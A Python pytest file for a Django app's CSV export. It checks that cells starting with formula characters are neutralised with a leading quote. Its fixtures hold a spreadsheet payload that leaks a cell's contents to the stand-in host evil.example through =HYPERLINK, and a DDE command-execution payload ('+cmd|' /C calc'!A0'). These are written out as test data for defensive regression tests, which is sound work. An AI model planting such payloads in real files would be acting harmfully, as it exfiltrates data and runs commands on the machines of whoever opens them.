"""Formula injection in the CSV files the product serves (issue #25, item 3).

A run named ``=HYPERLINK(...)`` and shared with bob reached bob's spreadsheet as a formula through the
metrics CSV of the run and of a comparison. Every CSV now goes through one writer (``runs.csv_export``):
a text cell that starts with = + - @, a tab or a carriage return gets a leading ', numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from runs.models import Run

from dapo.loop.report import StepReport
from dapo.runconfig.presets import get_preset

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")

    async def body() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    return list(csv.reader(io.StringIO(async_to_sync(body)().decode())))


@pytest.fixture
def shared_evil_run(alice: Any, bob: Any, paths: dict[str, str], queued: list) -> Run:
    config = get_preset("tiny_cpu").with_overrides({**paths, "optim.total_steps": 2})
    run = Run.create_queued(owner=alice, name=EVIL, config=config, preset="tiny_cpu")
    run.record_step(StepReport(step=1, metrics={"+cmd|' /C calc'!A0": 0.5, "loss": -1.5}, wall_time=1.0))
    run.shared_users.add(bob)
    return run


@pytest.mark.parametrize("url", ["/runs/{id}/metrics.csv", "/runs/compare/metrics.csv?ids={id}"])
def test_a_shared_runs_formula_name_reaches_the_reader_as_text(bob_client, shared_evil_run, url):
    rows = _rows(bob_client.get(url.format(id=shared_evil_run.pk)))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + EVIL}
    by_metric = {row[4]: row[5] for row in rows[1:]}
    assert by_metric == {"'+cmd|' /C calc'!A0": "0.5", "loss": "-1.5"}  # a negative value stays a number


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_numbers_are_not(start):
    from runs.csv_export import csv_cell

    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(-1.5) == -1.5 and csv_cell(-3) == -3 and csv_cell(None) == ""
    assert csv_cell(True) == "true" and csv_cell("a=b") == "a=b"


def test_the_writer_quotes_cells_and_rows_end_in_newlines():
    from runs.csv_export import csv_text

    text = csv_text([["run", 1, -0.25], ["-x", 'say "hi", ok', float("nan")]])
    assert text == 'run,1,-0.25\n\'-x,"say ""hi"", ok",nan\n'
